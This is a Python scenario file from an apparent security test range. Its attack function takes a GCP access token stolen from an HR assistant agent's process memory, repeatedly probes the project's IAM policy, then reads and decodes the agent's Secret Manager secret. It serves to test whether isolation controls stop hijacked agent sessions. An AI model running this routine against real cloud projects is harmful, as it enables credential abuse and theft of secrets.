"""Whoever holds an agent's cloud session looks around first, and then takes what it may read."""

from __future__ import annotations

import base64
import time

import requests

from iamrange.core import detect_controls
from iamrange.core import frameworks as fw
from iamrange.core.scenario import (
    Asset,
    AssetKind,
    Foothold,
    History,
    Loot,
    Material,
    Part,
    Scenario,
    Taken,
)
from scenarios import workloads

LOOKS, PAUSE = 10, 0.5
SECONDS = 10
PROJECTS = "https://cloudresourcemanager.googleapis.com/v1/projects"
SECRETS = "https://secretmanager.googleapis.com/v1"


def attack(foothold: Taken) -> Loot:
    """Ask for the project's policy a few times, which is refused; then read the agent's secret.

    With the bare access token: a client library would try to renew one that is refused.
    """
    headers = {"Authorization": f"Bearer {foothold.gcp_access_token}"}
    secret = foothold.knows["victim.gcp_secret"]
    policy = f"{PROJECTS}/{secret.split('/')[1]}:getIamPolicy"
    for _ in range(LOOKS):
        requests.post(policy, headers=headers, timeout=SECONDS)
        time.sleep(PAUSE)
    answer = requests.get(
        f"{SECRETS}/{secret}/versions/latest:access", headers=headers, timeout=SECONDS
    )
    answer.raise_for_status()
    return Loot((base64.b64decode(answer.json()["payload"]["data"]).decode(),))


SCENARIO = Scenario(
    claim="an accused agent's live session in a cloud is over before it is used",
    blocked_by=(detect_controls.ISOLATION,),
    foothold=Foothold(Part.HR_ASSISTANT, Material.GCP_ACCESS_TOKEN, taken_from="process memory"),
    asset=Asset(AssetKind.GCP_SECRET, Part.HR_ASSISTANT),
    knows=("victim.gcp_secret",),
    legitimate=workloads.READS_OWN_GCP_SECRET,
    attack=attack,
    maps_to=(fw.ASI10, fw.NHI1, fw.T1078_004),
    lesson="Killing an agent's tokens leaves what it made of them. Each cloud must be told too.",
    history=History(days=14),
)
